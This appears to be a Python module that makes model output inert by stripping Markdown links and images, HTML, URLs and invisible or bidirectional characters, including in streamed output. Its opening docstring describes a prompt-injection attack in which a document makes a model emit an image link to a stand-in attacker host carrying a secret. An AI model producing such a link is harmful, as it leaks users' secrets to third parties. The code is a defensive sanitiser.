"""Model output made inert: no links, images, HTML or invisible characters reach a reader.

A document can tell the model to write ``![x](http://evil.example/?q=<secret>)``; a
browser that renders the answer as Markdown would then fetch that address by itself and
hand the secret to whoever runs it. Prompts ask the model not to, but a prompt is no
guarantee, so every piece of model text shown to a person goes through ``neutralize``
(or, while it streams, ``MarkupFilter``): images and links keep only their visible text,
URLs are replaced by ``(link removed)``, HTML tags and comments are dropped, and format
and control characters (zero-width spaces, bidirectional overrides, terminal escapes)
that hide or reorder text are removed. Plain prose, citation marks like ``[2]`` and
e-mail addresses pass unchanged.

The rules run to a fixed point: removing one piece of markup can join its neighbours
into a new one (``<<b>img ...>``), so the text goes round again until nothing changes.
Character references are decoded first (``&#60;img`` is an ``<img`` to the next
renderer). URLs are found on a folded copy of the text, so full-width or otherwise
compatibility-equivalent letters and slashes (``ｈｔｔｐ：／／``), scheme-relative ``//host``
and Windows ``\\\\host`` forms count as URLs too. What survives and could still open a tag
in CommonMark or HTML (a ``<`` before a letter, ``/``, ``!`` or ``?``) gets a space after
the ``<``, so it reads the same and opens nothing.
"""

from __future__ import annotations

import html
import re
import unicodedata
from collections.abc import Callable

LINK_REMOVED = "(link removed)"

_COMMENT = re.compile(r"<!--.*?(?:-->|$)", re.DOTALL)
_TAG = re.compile(r"<[/!?]?[A-Za-z][^<>]*>")
# ![alt](target) and [text](target): keep the visible text only.
_IMAGE = re.compile(r"!\[([^\[\]]*)\]\([^)]*\)?")
_LINK = re.compile(r"\[([^\[\]]*)\]\([^)]*\)?")
# "[ref]: target" defines what "[text][ref]" links to, wherever it stands (a quote, a
# list item); "[ref] :" defines nothing, so reference links and images lose their target.
_DEFINITION = re.compile(r"\]:")
_SCHEMES = "javascript|vbscript|data|file|mailto|blob|filesystem|jar|view-source|ms-[a-z-]+"
_URL = re.compile(
    r"(?:[^\W_][\w+.-]{0,31}:/[/\\]|[^\W_][\w+.-]{0,31}:\\[/\\]|\bwww\."
    r"|(?<![\w:/\\])(?:[/\\]){2}(?=[^\s/\\])"
    rf"|\b(?:{_SCHEMES}):(?=\S))\S*",
    re.IGNORECASE,
)
# Slashes, colons and dots that look like the ASCII ones but NFKC leaves alone.
_CONFUSABLE = str.maketrans(
    {
        "\u2044": "/", "\u2215": "/", "\u29f8": "/", "\u2571": "/", "\u29f5": "\\",
        "\u2216": "\\", "\u29f9": "\\", "\u2236": ":", "\ua789": ":", "\u0589": ":",
        "\u02d0": ":", "\u2024": ".", "\u3002": ".",
    }
)  # fmt: skip
# Anything still shaped like a link target after the rules above ("] (" is not a link).
_LINK_OPENER = re.compile(r"\]\(")
# What opens a tag, comment, declaration or processing instruction in HTML and CommonMark.
_OPENER = re.compile(r"<(?=[A-Za-z/!?])")
_INVISIBLE = {"Cf", "Co", "Cs"}
# A character reference, with its semicolon: "&notice" is prose, "&lt;" is a "<".
_ENTITY = re.compile(r"&(?:#[0-9]{1,8}|#[xX][0-9A-Fa-f]{1,8}|[A-Za-z][A-Za-z0-9]{1,31});")
_HOLD_LIMIT = 400
_MAX_ROUNDS = 50


def neutralize(text: str) -> str:
    """``text`` with links, images, HTML and invisible format characters made inert.

    Args:
        text: Model output, whole or a stretch cut at a ``MarkupFilter`` boundary.

    Returns:
        The text a reader may see, rendered as Markdown or printed as it is.
    """
    for _ in range(_MAX_ROUNDS):
        cleaned = _one_round(text)
        if cleaned == text:
            break
        text = cleaned
    return _OPENER.sub("< ", text)


def _one_round(text: str) -> str:
    text = visible(text)
    text = _ENTITY.sub(lambda m: html.unescape(m.group()), text)
    text = _COMMENT.sub("", text)
    text = _TAG.sub("", text)
    text = _DEFINITION.sub("] :", text)
    text = _IMAGE.sub(lambda m: m.group(1), text)
    text = _LINK.sub(lambda m: _visible(m.group(1)), text)
    text = _folded_sub(_URL, text, lambda _: LINK_REMOVED)
    return _LINK_OPENER.sub("] (", text)


def visible(text: str) -> str:
    """``text`` without format and control characters that hide or reorder it (line
    breaks and tabs stay)."""
    return "".join(c for c in text if _shown(c))


def _shown(char: str) -> bool:
    category = unicodedata.category(char)
    if category == "Cc":
        return char in "\n\t"
    return category not in _INVISIBLE


def _folded_sub(pattern: re.Pattern[str], text: str, repl: Callable[[str], str]) -> str:
    """``pattern.sub`` matched on a same-length folded copy, replaced in ``text`` itself.

    Each character is folded alone (its NFKC form when that is one character, then the
    table of look-alike punctuation), so matches line up with the original text and
    ordinary words outside a match keep their own letters.
    """
    folded = "".join(_fold(c) for c in text).translate(_CONFUSABLE)
    parts: list[str] = []
    last = 0
    for match in pattern.finditer(folded):
        parts.append(text[last : match.start()])
        parts.append(repl(text[match.start() : match.end()]))
        last = match.end()
    parts.append(text[last:])
    return "".join(parts)


def _fold(char: str) -> str:
    if char.isascii():
        return char
    normal = unicodedata.normalize("NFKC", char)
    return normal if len(normal) == 1 else char


def _visible(label: str) -> str:
    # "[2]" followed by "(...)" is a citation before a parenthesis only when a space
    # separates them, so any "[x](...)" here is a link: keep the label, bracketed when it
    # is a citation number so the reader still sees which source it names.
    return f"[{label}]" if label.strip().isdigit() else label


class MarkupFilter:
    """``neutralize`` for a stream: text is released in stretches that hold no open markup.

    A stretch ends after whitespace that follows every ``[``, ``(`` and ``<`` it opened
    with its closer, so a link, an image, a tag or a URL never straddles two stretches and
    each stretch is neutralized on its own. What is held back waits for more tokens (at
    most ~400 characters, then it is released anyway) or for ``close``. Where a stretch
    shown does not end in whitespace (a release forced inside one long word, or trailing
    whitespace taken with a dropped comment) a space is put before the next one: two
    inert stretches can still make markup where they meet (``![x]`` then
    ``(https:host)``), and no link, image, tag or URL spans a space.
    """

    def __init__(self) -> None:
        self._held = ""
        self._after_space = True

    def feed(self, piece: str) -> str:
        """Take the next piece of model text; return what may be shown now (maybe "")."""
        self._held += piece
        cut = _safe_cut(self._held)
        ready, self._held = self._held[:cut], self._held[cut:]
        return self._shown(ready)

    def close(self) -> str:
        """The rest of the text, neutralized, at the end of the stream."""
        rest, self._held = self._held, ""
        return self._shown(rest)

    def _shown(self, stretch: str) -> str:
        shown = neutralize(stretch) if stretch else ""
        if not shown:
            return ""
        if not self._after_space and not shown[0].isspace():
            shown = " " + shown
        self._after_space = shown[-1].isspace()
        return shown


def _safe_cut(text: str) -> int:
    """Where ``text`` can be split without cutting through markup (0: not yet)."""
    end = max(text.rfind(" "), text.rfind("\n"), text.rfind("\t")) + 1
    if len(text) - end > _HOLD_LIMIT:
        return len(text)  # one endless "word": no markup survives neutralize in it either
    opened: dict[str, int] = {}
    for index, char in enumerate(text[:end]):
        if char in "[(<":
            opened.setdefault(char, index)
        elif char in "])>":
            opened.pop({"]": "[", ")": "(", ">": "<"}[char], None)
    earliest = min(opened.values(), default=end)
    if earliest == end or end - earliest > _HOLD_LIMIT:
        return end  # nothing open, or an opener never closed ("(see above"): release
    # Back to the whitespace before the opener's word: "![x](" stays in one stretch.
    return max(text.rfind(" ", 0, earliest), text.rfind("\n", 0, earliest)) + 1
